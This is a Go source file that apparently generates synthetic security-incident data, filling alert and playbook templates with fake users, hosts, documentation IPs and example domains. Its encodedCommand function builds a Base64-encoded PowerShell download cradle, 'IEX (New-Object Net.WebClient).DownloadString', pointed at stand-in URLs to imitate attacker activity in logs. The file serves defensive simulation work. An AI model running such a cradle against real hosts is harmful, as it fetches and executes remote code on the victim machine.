package sample

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
	"unicode/utf16"
)

// vars resolves the placeholders of one threat's templates. A placeholder gets its value the first
// time it is used and keeps it, so that the user in the summary is the user in the remediation.
// Values come from the scenario's picks or, failing that, from generic generators; every IP address
// is in a documentation range and every domain is under example.com, example.net, example.org or
// .test.
type vars struct {
	rng      *rand.Rand
	sc       *scenario
	tenant   string
	id       string
	when     time.Time
	analytic string
	// generic makes every placeholder a generic phrase ("the affected user"), for playbook notes.
	generic bool

	names []string
	vals  []string
	depth int
	set   int // index+1 of the scenario set in use; 0: none chosen yet
}

func (v *vars) reset(sc *scenario, tenant, id string, when time.Time, analytic string) {
	v.sc, v.tenant, v.id, v.when, v.analytic = sc, tenant, id, when, analytic
	v.names, v.vals = v.names[:0], v.vals[:0]
	v.set = 0
}

// expand appends tmpl to b with its placeholders replaced; "{{" stands for a literal "{".
func (v *vars) expand(b []byte, tmpl string) []byte {
	for {
		i := strings.IndexByte(tmpl, '{')
		if i < 0 {
			return append(b, tmpl...)
		}
		j := strings.IndexByte(tmpl[i:], '}')
		if j < 0 {
			return append(b, tmpl...)
		}
		b = append(b, tmpl[:i]...)
		if i+1 < len(tmpl) && tmpl[i+1] == '{' { // "{{" is a literal brace
			b = append(b, '{')
			tmpl = tmpl[i+2:]
			continue
		}
		b = append(b, v.get(tmpl[i+1:i+j])...)
		tmpl = tmpl[i+j+1:]
	}
}

// text returns tmpl with its placeholders replaced.
func (v *vars) text(tmpl string) string {
	if strings.IndexByte(tmpl, '{') < 0 {
		return tmpl
	}
	return string(v.expand(make([]byte, 0, len(tmpl)+32), tmpl))
}

// get returns the value of a placeholder.
func (v *vars) get(name string) string {
	if v.generic {
		return genericPhrase(name)
	}
	for i, n := range v.names {
		if n == name {
			return v.vals[i]
		}
	}
	val := v.resolve(name)
	v.names = append(v.names, name)
	v.vals = append(v.vals, val)
	return val
}

func (v *vars) resolve(name string) string {
	r := v.rng
	var t string
	if len(v.sc.sets) > 0 {
		if v.set == 0 {
			v.set = 1 + r.IntN(len(v.sc.sets))
		}
		t = v.sc.sets[v.set-1][name]
	}
	if p := v.sc.picks[name]; t == "" && len(p) > 0 {
		t = p[r.IntN(len(p))]
	}
	if t != "" {
		if v.depth < 3 && strings.IndexByte(t, '{') >= 0 {
			v.depth++
			t = v.text(t)
			v.depth--
		}
		return t
	}
	upper := strings.ToUpper(v.tenant)
	switch name {
	case "tenant":
		return v.tenant
	case "TENANT":
		return upper
	case "id":
		return v.id
	case "analytic":
		return v.analytic
	case "date":
		return v.when.Format("2006-01-02")
	case "user", "user2", "user3":
		return pick(r, firstNames) + "." + pick(r, lastNames)
	case "email":
		return v.get("user") + "@" + v.get("tdomain")
	case "email2":
		return v.get("user2") + "@" + v.get("tdomain")
	case "tdomain":
		return v.tenant + ".example.com"
	case "admin":
		return "adm-" + pick(r, firstNames)[:1] + pick(r, lastNames)
	case "svc":
		return pick(r, serviceAccounts)
	case "host", "host2", "host3":
		return fmt.Sprintf("%s-%s-%04d", upper, pick(r, []string{"WS", "WS", "LT"}), 100+r.IntN(9000))
	case "server", "server2":
		return fmt.Sprintf("%s-%s%02d", upper, pick(r, serverRoles), 1+r.IntN(12))
	case "dc":
		return fmt.Sprintf("%s-DC%02d", upper, 1+r.IntN(4))
	case "lhost", "lhost2":
		return fmt.Sprintf("%s-%s-%02d", v.tenant, pick(r, linuxRoles), 1+r.IntN(20))
	case "ip", "ip2", "ip3":
		return fmt.Sprintf("192.0.2.%d", 10+r.IntN(240))
	case "extip", "extip2", "extip3":
		return fmt.Sprintf("%s.%d", pick(r, []string{"203.0.113", "198.51.100"}), 2+r.IntN(252))
	case "asn":
		return fmt.Sprintf("AS%d", 64496+r.IntN(16))
	case "country":
		return pick(r, countries)
	case "domain", "domain2":
		return pick(r, domainHeads) + "-" + pick(r, domainTails) + "." + pick(r, domainZones)
	case "url":
		return "https://" + v.get("domain") + "/" + pick(r, urlPaths)
	case "extemail":
		return fmt.Sprintf("%s.%s%d@%s", pick(r, firstNames), pick(r, lastNames), 10+r.IntN(90),
			pick(r, []string{"example.org", "example.net", "mail.test"}))
	case "hash", "hash2":
		return sha256Hex(r)
	case "n":
		return fmt.Sprint(12 + r.IntN(170))
	case "n2":
		return fmt.Sprint(3 + r.IntN(20))
	case "gb":
		return fmt.Sprintf("%.1f", 0.4+r.Float64()*60)
	case "time":
		return v.when.Format("15:04")
	case "rand":
		return token(r, 6)
	case "path":
		return `C:\Users\` + v.get("user") + `\AppData\Local\Temp\` + token(r, 7) + ".exe"
	case "file":
		return token(r, 8) + ".exe"
	case "proc":
		return v.filename(v.get("path"))
	case "cmd":
		return v.get("path")
	case "port":
		return pick(r, []string{"443", "8443", "4444", "8080", "80", "53"})
	case "b64":
		return encodedCommand(v.get("url"))
	case "cve":
		return pick(r, []string{"CVE-2021-34473", "CVE-2021-26855", "CVE-2023-34362", "CVE-2019-18935"})
	case "region":
		return pick(r, []string{"eu-west-1", "us-east-1", "us-west-2", "eu-central-1", "ap-southeast-2"})
	case "acct":
		return fmt.Sprintf("%012d", r.Int64N(1e12))
	case "key":
		return "AKIA************" + strings.ToUpper(token(r, 4))
	case "guid":
		return guid(r)
	}
	return "{" + name + "}"
}

// filename returns the last element of a Windows or POSIX path.
func (v *vars) filename(p string) string {
	if i := strings.LastIndexAny(p, `\/`); i >= 0 {
		return p[i+1:]
	}
	return p
}

// genericPhrase is what a placeholder reads as in a playbook note, which is about no single case:
// a named slot such as <user> or <attacker IP>, the way playbooks are written.
func genericPhrase(name string) string {
	switch name {
	case "user", "email", "luser", "iamuser":
		return "<user>"
	case "user2", "user3", "email2":
		return "<other user>"
	case "admin":
		return "<admin account>"
	case "svc", "sa":
		return "<service account>"
	case "host", "host2", "host3", "lhost", "lhost2":
		return "<host>"
	case "server", "server2":
		return "<server>"
	case "dc":
		return "<domain controller>"
	case "ip", "ip2", "ip3":
		return "<internal IP>"
	case "extip", "extip2", "extip3":
		return "<attacker IP>"
	case "asn":
		return "<ASN>"
	case "domain", "domain2":
		return "<domain>"
	case "url":
		return "<URL>"
	case "extemail":
		return "<external address>"
	case "hash", "hash2":
		return "<SHA-256>"
	case "path", "path2":
		return "<path>"
	case "cmd":
		return "<command line>"
	case "date":
		return "<date>"
	case "time":
		return "<time>"
	case "tenant", "TENANT":
		return "<customer>"
	case "id":
		return "<case>"
	case "tdomain":
		return "<company domain>"
	case "nsg":
		return "<NSG>"
	case "nsgrule", "rule":
		return "<rule>"
	case "sub":
		return "<subscription>"
	case "spn":
		return "<SPN>"
	case "ns":
		return "<namespace>"
	case "cve":
		return "<CVE>"
	case "ext":
		return "<extension ID>"
	case "extname":
		return "<extension name>"
	case "newuser":
		return "<new user>"
	case "regval":
		return "<value>"
	case "wmi":
		return "<subscription name>"
	case "svcname":
		return "<service>"
	case "sudocmd":
		return "<command>"
	case "cronfile":
		return "<file>"
	case "vpn":
		return "the VPN gateway"
	case "rat":
		return "<remote access tool>"
	case "software":
		return "<software>"
	}
	return "<" + name + ">"
}

func pick(r *rand.Rand, s []string) string { return s[r.IntN(len(s))] }

const alnum = "abcdefghijklmnopqrstuvwxyz0123456789"

// token returns n random lowercase letters and digits, starting with a letter.
func token(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		if i == 0 {
			b[i] = alnum[r.IntN(26)]
		} else {
			b[i] = alnum[r.IntN(len(alnum))]
		}
	}
	return string(b)
}

func sha256Hex(r *rand.Rand) string {
	var b [32]byte
	for i := 0; i < 32; i += 8 {
		binary.LittleEndian.PutUint64(b[i:], r.Uint64())
	}
	return hex.EncodeToString(b[:])
}

func guid(r *rand.Rand) string {
	var b [16]byte
	binary.LittleEndian.PutUint64(b[:8], r.Uint64())
	binary.LittleEndian.PutUint64(b[8:], r.Uint64())
	h := hex.EncodeToString(b[:])
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

// encodedCommand returns the start of the -EncodedCommand argument (Base64 of UTF-16LE) of a
// PowerShell download cradle for url, cut as console logs cut it.
func encodedCommand(url string) string {
	u := utf16.Encode([]rune("IEX (New-Object Net.WebClient).DownloadString('" + url + "')"))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	s := base64.StdEncoding.EncodeToString(b)
	if len(s) > 88 {
		s = s[:88] + "..."
	}
	return s
}

var firstNames = []string{
	"jesse", "maria", "david", "priya", "tom", "aisha", "lukas", "chen", "sofia", "omar", "emma",
	"raj", "nina", "carlos", "hannah", "kenji", "fatima", "peter", "lena", "samuel", "grace", "ivan",
	"olivia", "mateo", "zoe", "daniel", "amara", "felix", "julia", "noah", "sara", "victor", "mei",
	"arjun", "claire", "diego", "ingrid", "kofi", "laura", "marco", "nadia", "oscar", "paula",
	"rafael", "tara", "yusuf", "elena", "hugo",
}

var lastNames = []string{
	"brown", "garcia", "smith", "patel", "nguyen", "mueller", "kowalski", "okafor", "tanaka",
	"rossi", "silva", "johnson", "lindqvist", "dubois", "haddad", "kim", "novak", "murphy", "schmidt",
	"fernandes", "ivanova", "jensen", "larsen", "moreau", "nakamura", "oconnor", "petrov", "quinn",
	"reyes", "santos", "thompson", "usman", "vargas", "walker", "young", "zhang", "bauer", "costa",
	"diaz", "evans", "fischer", "gomez", "hughes", "ito", "khan", "lopez", "meyer", "wright",
}

var serviceAccounts = []string{
	"svc_sql01", "svc-backup", "svc_sccm", "svc-veeam", "svc_iis_app", "svc-jenkins",
	"svc_sharepoint", "svc-adsync", "svc_reporting", "svc-scan",
}

var serverRoles = []string{"SRV-FS", "SRV-APP", "SRV-SQL", "SRV-WEB", "SRV-RDS", "SRV-PRT", "SRV-ERP"}

var linuxRoles = []string{"web", "api", "build", "db", "bastion", "worker", "etl", "git"}

var countries = []string{
	"the Netherlands", "Romania", "Brazil", "Vietnam", "Nigeria", "Singapore", "Ukraine", "Panama",
	"Indonesia", "Bulgaria", "Moldova", "Hong Kong", "Turkey", "Argentina", "Seychelles",
}

var domainHeads = []string{
	"cdn", "update", "login", "secure", "sync", "files", "portal", "auth", "msft", "office", "docs",
	"share", "api", "static", "mail", "account",
}

var domainTails = []string{
	"sync", "verify", "cloud", "check", "update", "services", "assets", "storage", "edge", "access",
	"online", "hub",
}

var domainZones = []string{"example.net", "example.org", "example.com", "test"}

var urlPaths = []string{
	"a.ps1", "update/check.php", "dl/setup.bin", "s/payload.txt", "api/v2/config", "wp-content/x.png",
	"images/logo.gif", "cdn/js/main.js",
}
